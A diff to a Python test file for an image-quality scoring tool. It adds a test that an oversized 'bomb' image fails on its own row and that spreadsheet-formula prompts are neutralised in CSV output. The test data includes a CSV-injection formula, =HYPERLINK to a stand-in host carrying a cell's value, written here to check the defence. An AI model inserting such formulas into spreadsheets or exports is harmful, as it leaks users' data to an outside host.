@@ -101,6 +101,28 @@ def test_folder_with_embedded_prompts_and_webdataset_shards(local_ray, corpus, t
     assert all(name.endswith('.csv') for name in os.listdir(tmp_path / 'shards'))
 
 
+def test_a_bomb_is_its_row_and_formula_prompts_are_inert_in_csv_parts(local_ray, corpus, tmp_path):
+    from conftest import write_bomb_png
+
+    write_bomb_png(tmp_path / 'bomb.png')
+    formula = '=HYPERLINK("http://x.example/?a="&A1,"click")'
+    listing = tmp_path / 'list.csv'
+    pd.DataFrame({'image': [str(corpus / '00.png'), str(tmp_path / 'bomb.png'), str(corpus / '01.png')],
+                  'prompt': [formula, 'a dog', '@owl']}).to_csv(listing, index=False)
+    for fmt in ('csv', 'parquet'):
+        dst = tmp_path / fmt
+        summary = score_with_ray(['ipce'], str(listing), str(dst), options=TINY, batch_size=4, fmt=fmt)
+        assert (summary.read, summary.scored, summary.failed) == (3, 2, 1)
+        assert summary.failures[0][0].endswith('bomb.png') and 'more than the limit' in summary.failures[0][1]
+        table = read_results(str(dst)).set_index('image')
+        assert table.loc[str(corpus / '00.png'), 'prompt'] == formula  # read back as the original text
+    raw = pd.concat([pd.read_csv(tmp_path / 'csv' / p, dtype=str, keep_default_na=False)
+                     for p in os.listdir(tmp_path / 'csv')])
+    assert sorted(raw['prompt']) == sorted(["'" + formula, 'a dog', "'@owl"])  # inert in the CSV parts
+    parts = [pd.read_parquet(tmp_path / 'parquet' / p) for p in os.listdir(tmp_path / 'parquet')]
+    assert formula in set(pd.concat(parts)['prompt'])  # Parquet keeps the raw text
+
+
 def test_command_line_and_a_missing_ray(corpus, tmp_path):
     env = dict(os.environ, HF_HUB_OFFLINE='1', OMP_NUM_THREADS='1')
     cmd = [sys.executable, '-m', 'pyiqa_agiqa.cli', 'score', 'ipce', '--engine', 'ray', '--input',
@@ -114,6 +136,6 @@ def test_command_line_and_a_missing_ray(corpus, tmp_path):
     blocker.mkdir()
     (blocker / 'ray.py').write_text("raise ImportError('No module named ray')\n")
     result = subprocess.run(cmd, env=dict(env, PYTHONPATH=str(blocker)), capture_output=True, text=True, timeout=300)
-    assert result.returncode == 1
+    assert result.returncode == 2
     assert result.stderr.strip() == ("error: the Ray engine needs Ray Data: pip install 'pyiqa-agiqa[ray]' "
                                      "(or pip install 'ray[data]')")
